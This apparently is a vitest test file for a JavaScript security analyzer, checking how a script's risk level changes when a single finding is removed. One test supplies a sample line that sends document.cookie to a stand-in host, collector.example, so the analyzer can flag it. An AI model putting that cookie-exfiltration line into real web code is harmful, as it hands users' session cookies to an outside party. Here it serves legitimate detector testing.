import { expect, test } from "vitest";
import type { Severity } from "../analysis-result.ts";
import { analyzeScript } from "../analyze-script.ts";
import { withoutFinding } from "./without-finding.ts";

const lifted = (severities: readonly Severity[]) =>
	severities.map((_, index) => {
		const findings = severities.map((severity) => ({ severity }));
		const { level, isLower } = withoutFinding(findings, index);
		return `${isLower ? "lower" : "as before"}: ${level}`;
	});

test.each<[Severity[], string[]]>([
	[["critical"], ["lower: green"]],
	[
		["critical", "medium"],
		["lower: amber", "as before: red"],
	],
	[
		["critical", "high"],
		["as before: red", "as before: red"],
	],
	[
		["medium", "low"],
		["lower: green", "as before: amber"],
	],
	[["low"], ["as before: green"]],
])("without each of %j, the others decide", (severities, expected) => {
	expect(lifted(severities)).toEqual(expected);
});

test("a script that is changed at the place of its only grave finding gets the level that was foretold", () => {
	const leaks = 'fetch("https://collector.example/?" + document.cookie);';
	const { vulnerabilities } = analyzeScript({ code: `document.title = "x";\n${leaks}` });
	const grave = vulnerabilities.flatMap(({ severity }, index) =>
		severity === "critical" || severity === "high" ? [index] : [],
	);
	expect(grave).toHaveLength(1);
	const changed = analyzeScript({ code: 'document.title = "x";' });
	expect(withoutFinding(vulnerabilities, grave[0] ?? -1)).toEqual({ level: changed.risk_level, isLower: true });
});
